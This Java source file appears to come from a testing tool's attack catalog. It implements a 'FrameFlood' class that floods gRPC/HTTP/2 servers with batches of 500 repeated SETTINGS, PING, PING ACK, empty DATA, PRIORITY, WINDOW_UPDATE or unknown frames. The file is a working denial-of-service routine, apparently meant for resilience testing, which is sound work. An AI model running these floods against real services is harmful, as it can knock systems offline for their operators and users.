package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import java.io.IOException;

/** Sends one small frame again and again, on connections that are otherwise idle. */
final class FrameFlood extends Attack {
  private static final int AT_ONCE = 500;

  /** Of an open stream, which the frames may name. */
  private static final int STREAM = 1;

  private final byte[] frames;

  FrameFlood(String name, Frame frame) {
    super(name, Family.FRAMES, Access.NO_KEY, Bounds.of(200, 64, 6));
    frames = frame.times(AT_ONCE);
  }

  static FrameFlood settings() {
    return new FrameFlood("settings-flood", Frame.setting(4, 65_535));
  }

  static FrameFlood emptySettings() {
    return new FrameFlood("empty-settings-flood", Frame.empty(Frame.SETTINGS, 0, 0));
  }

  static FrameFlood ping() {
    return new FrameFlood("ping-flood", new Frame(Frame.PING, 0, 0, new byte[8]));
  }

  static FrameFlood pingAcks() {
    return new FrameFlood("ping-ack-flood", new Frame(Frame.PING, Frame.ACK, 0, new byte[8]));
  }

  static FrameFlood emptyData() {
    return new FrameFlood("empty-data-flood", Frame.empty(Frame.DATA, 0, STREAM));
  }

  static FrameFlood priority() {
    return new FrameFlood("priority-flood", new Frame(Frame.PRIORITY, 0, 3, new byte[5]));
  }

  static FrameFlood windowUpdates() {
    return new FrameFlood("window-update-flood", Frame.ofInt(Frame.WINDOW_UPDATE, STREAM, 1));
  }

  static FrameFlood unknown() {
    return new FrameFlood("unknown-frame-flood", Frame.empty(0xbe, 0, 0));
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(4, () -> flood(attempt));
  }

  private void flood(Attempt attempt) throws IOException {
    try (Http2 connection = attempt.grpc()) {
      connection.headers(connection.newStream(), false, Grpc.headers(Grpc.HEALTH_CHECK, ""));
      while (attempt.isRunning()) {
        connection.send(frames);
        while (connection.hasInput()) {
          connection.read();
        }
      }
    }
  }
}
